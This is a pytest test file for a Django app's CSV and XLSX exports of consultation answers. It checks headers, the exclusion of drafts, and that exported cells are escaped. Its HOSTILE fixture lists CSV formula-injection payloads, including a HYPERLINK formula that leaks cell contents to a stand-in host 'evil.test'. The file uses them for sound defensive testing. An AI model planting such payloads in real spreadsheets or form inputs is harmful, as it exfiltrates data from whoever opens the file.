"""CSV and XLSX exports of submitted answers: contents, and no cell a spreadsheet would run."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.consultations.test_compile_views import SUBMITTED_AT, draft, question, submit

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Clic")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HEADERS_ES = [
    "código de pregunta",
    "sesión",
    "eje",
    "pregunta (español)",
    "pregunta (inglés)",
    "país (ISO)",
    "país",
    "respuesta",
    "enviada por",
    "enviada el (UTC)",
    "enviada el (America/El_Salvador, zona del taller)",
    "versión",
]


@pytest.fixture
def exported(demo, people):
    q1 = question(demo, "TQ-S1-1")
    countries = ["BZ", "CA", "CR", "SV", "US", "GT"]
    for country_id, text in zip(countries, HOSTILE, strict=True):
        submit(q1, country_id, text, by=people["focal_point_other"])
    draft(q1, "MX", "=BORRADOR()")
    return q1


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_export_contents(client_as, people, exported):
    response = client_as(people["staff"]).get(reverse("consultations:export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="respuestas-enviadas.csv"'
    rows = _csv_rows(response.content)
    assert rows[0] == HEADERS_ES
    assert len(rows) == 1 + len(HOSTILE)  # submitted answers only: the MX draft is absent
    sv = next(row for row in rows if row[5] == "SV")
    assert sv[0] == "TQ-S1-1"
    assert sv[1] == "Sesión 1"
    assert sv[3].startswith("[Pregunta de ejemplo]")
    assert sv[4].startswith("[Example question]")
    assert sv[6] == "El Salvador"
    assert sv[7] == "'@SUM(A1:A2)"
    assert sv[8] == "Delegado El Salvador (demo)"
    assert sv[9] == "2022-06-10T23:30:00Z"
    assert sv[10] == "2022-06-10T17:30:00-06:00"
    assert sv[11] == "2"
    assert SUBMITTED_AT.isoformat().startswith("2022-06-10T23:30")
    assert "=BORRADOR()" not in response.content.decode("utf-8-sig")


def test_csv_export_no_cell_starts_a_formula(client_as, people, exported):
    content = client_as(people["staff"]).get(reverse("consultations:export", args=["csv"])).content
    rows = _csv_rows(content)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    answers = sorted(row[7] for row in rows[1:])
    assert answers == sorted("'" + text for text in HOSTILE)


def test_xlsx_export_no_cell_is_a_formula(client_as, people, exported):
    response = client_as(people["staff"]).get(reverse("consultations:export", args=["xlsx"]))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == HEADERS_ES
    assert len(rows) == 1 + len(HOSTILE)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(TRIGGERS), cell.coordinate
    answers = sorted(row[7].value for row in rows[1:])
    # XML parsers (openpyxl's, Excel's) read a raw CR in a cell as LF: "\r=1" comes back "\n=1".
    assert answers == sorted("'" + text.replace("\r", "\n") for text in HOSTILE)


def test_export_headers_in_english(client_as, people, exported):
    response = client_as(people["staff"]).get("/en" + reverse("consultations:export", args=["csv"]))
    rows = _csv_rows(response.content)
    assert rows[0][0] == "question code"
    assert rows[0][10] == "submitted at (America/El_Salvador, workshop zone)"


def test_export_with_no_answers_has_only_headers(client_as, people, demo):
    response = client_as(people["staff"]).get(reverse("consultations:export", args=["csv"]))
    assert _csv_rows(response.content) == [HEADERS_ES]
